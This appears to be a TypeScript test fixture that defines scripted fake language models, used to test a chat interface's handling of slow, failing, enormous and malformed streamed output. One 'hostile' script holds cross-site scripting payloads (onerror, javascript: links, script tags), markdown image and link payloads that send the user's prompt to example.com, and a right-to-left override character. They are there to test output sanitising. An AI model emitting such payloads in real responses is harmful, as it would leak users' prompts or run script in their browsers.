/**
 * Models that say what a script tells them, for tests of the screens. Only a test build holds them
 * (`vite build --mode test`), and only there does the scripted engine exist.
 */

import type { ModelCard } from '../domain/model';

const code = ['```js\n', 'const rate = tokens / seconds;\n', '```\n\n'];
const table = ['| precision | MB |\n', '| --- | --- |\n', '| q8 | 4 |\n', '| q4 | 2 |\n'];

/**
 * By name; each becomes the variant `scripted/NAME`. What a script may say: `workers/engines/scripted.ts`.
 * What a test must catch in the act (`long`, `deaf`) is slow enough for a busy machine.
 */
const scripts: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  greeting: {
    chunks: ['Hello', ' there', ', you', ' said', ': ', '{prompt}'],
    firstMs: 30,
    everyMs: 15,
    loadMs: 40,
  },
  'other-greeting': { chunks: ['Good', ' day', '.'], firstMs: 60, everyMs: 25, loadMs: 40 },
  long: { chunks: ['Tokens ', 'arrive ', 'one ', 'by ', 'one. '], repeat: 400, firstMs: 40, everyMs: 250 },
  // Ten seconds, to the end.
  steady: { chunks: [...Array.from({ length: 40 }, () => 'Tokens arrive. '), 'The last.'], everyMs: 250 },
  // Ten million characters in one line.
  enormous: { chunks: ['x'.repeat(100_000)], repeat: 100, everyMs: 5 },
  'slow-start': { firstMs: 20_000 },
  'slow-load': { loadMs: 20_000 },
  fails: { chunks: ['one ', 'two ', 'three ', 'four ', 'five ', 'six '], everyMs: 15, failAfter: 5 },
  dies: { chunks: ['one ', 'two ', 'three ', 'four '], everyMs: 60, dieAfter: 3 },
  deaf: { chunks: ['la '], repeat: 2000, everyMs: 150, deaf: true },
  markdown: {
    chunks: ['# Rates\n\n', 'A **rate** is ', '*tokens* by time:\n\n', ...code, ...table],
    everyMs: 10,
  },
  hostile: {
    chunks: [
      '<img src=x onerror=alert(1)> ',
      '[click](javascript:alert(2)) ',
      '![leak](https://example.com/?q={prompt}) ',
      '[out](https://example.com/?q={prompt}) ',
      '<script>alert(3)</script> ',
      '\u202Eright to left\u202C',
    ],
    everyMs: 5,
  },
  'load-fails': { failLoad: 'not-a-model-file' },
  // 1,000 tokens a second for 30 s; four of them, so that four lanes have an engine each and run at once.
  ...Object.fromEntries(
    [1, 2, 3, 4].map((number) => [
      `remote-stream-${number}`,
      {
        chunks: ['Tokens ', 'arrive ', 'very ', 'fast.\n\n'],
        repeat: 7500,
        everyMs: 1,
        contextTokens: 1_000_000,
      },
    ]),
  ),
  'small-context': { contextTokens: 64, chunks: ['short ', 'answer'], everyMs: 5 },
};

function card([name, script]: [string, Readonly<Record<string, unknown>>]): ModelCard {
  return {
    id: `scripted-${name}`,
    name: `Scripted ${name}`,
    parameters: 1000,
    contextTokens: name === 'small-context' ? 64 : 1024,
    licence: 'Apache-2.0',
    openness: { weights: 'yes', trainingData: 'yes', trainingCode: 'yes', permissiveLicence: 'yes' },
    variants: (['q8', 'fp16', 'q4'] as const).map((precision) => ({
      // The first precision carries the plain name, so that a link can ask for `scripted/greeting`.
      id: precision === 'q8' ? `scripted/${name}` : `scripted/${name}/${precision}`,
      engine: 'scripted',
      precision,
      baseUrl: `scripted:${encodeURIComponent(JSON.stringify(script))}`,
      bytes: { q8: 4_000_000, fp16: 7_000_000, q4: 2_300_000 }[precision],
      requiredFeatures: precision === 'fp16' ? ['shader-f16'] : [],
      devices: ['webgpu', 'wasm'],
      remote: name.startsWith('remote-'),
    })),
    suggestions: [
      { prompt: 'What is a token?', shows: 'term' },
      { prompt: 'What is 27 + 58?', shows: 'sum' },
      { prompt: 'Tell me a story about a fox and a lighthouse.', shows: 'story' },
    ],
  };
}

export const scriptedCards: readonly ModelCard[] = Object.entries(scripts).map(card);
